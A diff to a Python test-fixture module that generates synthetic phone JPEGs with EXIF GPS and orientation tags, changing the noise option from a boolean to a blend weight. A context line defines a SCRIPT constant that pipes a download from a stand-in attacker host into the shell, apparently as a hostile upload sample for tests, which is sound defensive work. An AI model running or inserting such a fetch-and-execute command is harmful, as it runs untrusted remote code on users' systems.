@@ -19,7 +19,7 @@ def phone_jpeg(
     height: int = 480,
     orientation: int = 6,
     quality: int = 90,
-    noise: bool = False,
+    noise: float = 0.0,
 ) -> bytes:
     """A JPEG as a phone writes it: EXIF with GPS coordinates, camera make and
     an orientation tag (6: the pixels must be turned 90 degrees clockwise),
@@ -28,7 +28,7 @@ def phone_jpeg(
     image = Image.new("RGB", (width, height), (220, 20, 20))
     image.paste((20, 20, 220), (width // 2, 0, width, height))
     if noise:  # phone-sized bytes: noise compresses badly, as real photos do
-        image = Image.blend(image, Image.effect_noise((width, height), 64).convert("RGB"), 0.3)
+        image = Image.blend(image, Image.effect_noise((width, height), 64).convert("RGB"), noise)
     exif = Image.Exif()
     exif[Base.Make] = "RunwayPhone"
     exif[Base.Orientation] = orientation
@@ -85,7 +85,7 @@ SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
 
 
 def truncated_jpeg() -> bytes:
-    data = phone_jpeg(800, 600, noise=True)
+    data = phone_jpeg(800, 600, noise=0.3)
     return data[: len(data) // 2]
 
 
